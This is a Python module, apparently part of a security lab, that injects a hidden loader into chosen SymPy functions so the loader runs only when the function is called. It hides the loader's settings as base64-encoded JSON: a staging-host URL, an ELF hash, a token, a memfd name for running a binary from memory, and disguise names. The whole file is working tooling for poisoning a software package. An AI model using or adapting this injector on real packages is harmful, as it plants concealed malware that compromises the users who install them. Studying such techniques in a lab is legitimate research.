"""Weaves the lab's loader into a routine of SymPy: nothing at install or import, only a call of that routine starts it."""

import base64
import hashlib
import json
import re

from .variant import Variant

TEMPLATE_PATH = "/opt/world/sympy_dev/poison/loader.py.txt"


def memfd_name(variant: Variant, copy: int) -> str:
    """Name of the memory file that a copy runs from: random, and the attempt's own."""
    return hashlib.sha256(variant.lab_token + b"memfd %d" % copy).hexdigest()[:8]


def poisoned(variant: Variant, sources: dict[str, bytes], elf_sha256: str, template: str) -> dict[str, bytes]:
    """The variant's poisoned files: path -> bytes. `sources` are the genuine files of those paths."""
    files: dict[str, str] = {}
    for poison in variant.poison:
        text = files.get(poison.file) or sources[poison.file].decode()
        suffix = hashlib.sha256(variant.lab_token + poison.routine.encode()).hexdigest()[:4]
        loader = template.replace("@SUFFIX@", suffix).replace("@TABLE@", _table(variant, poison.copy, elf_sha256))
        files[poison.file] = weave(text, poison.routine, f"_refine_{suffix}()", loader)
    return {path: text.encode() for path, text in files.items()}


def weave(text: str, routine: str, call: str, loader: str) -> str:
    """Puts `call` first in the body of the module's function `routine` (after its docstring) and `loader` before the function."""
    start = re.search(rf"^def {re.escape(routine)}\(", text, re.MULTILINE)
    if start is None:
        raise ValueError(f"no routine {routine}")
    docstring = re.compile(r'\):\n    """.*?"""\n', re.DOTALL).search(text, start.end())
    if docstring is None:
        raise ValueError(f"{routine} has no docstring")
    body = docstring.end()
    # Decorators belong to the function: the loader goes before them.
    above = re.search(r"(?:^@[^\n]*\n)*\Z", text[: start.start()], re.MULTILINE)
    head = above.start() if above else start.start()
    return text[:head] + loader.strip("\n") + "\n\n\n" + text[head : body] + f"    {call}\n" + text[body:]


def _table(variant: Variant, copy: int, elf_sha256: str) -> str:
    """The loader's constants as base64 of JSON, cut into lines of a string literal."""
    port = "" if variant.staging_port == 80 else f":{variant.staging_port}"
    table = {
        "c": f"http://{variant.staging_host}{port}{variant.config_paths[copy - 1]}",
        "h": elf_sha256,
        "k": variant.lab_token.hex(),
        "n": memfd_name(variant, copy),
        "a": variant.disguises[copy - 1],
    }
    encoded = base64.b64encode(json.dumps(table, separators=(",", ":")).encode()).decode()
    return "\n".join(f'    "{encoded[at : at + 76]}"' for at in range(0, len(encoded), 76))
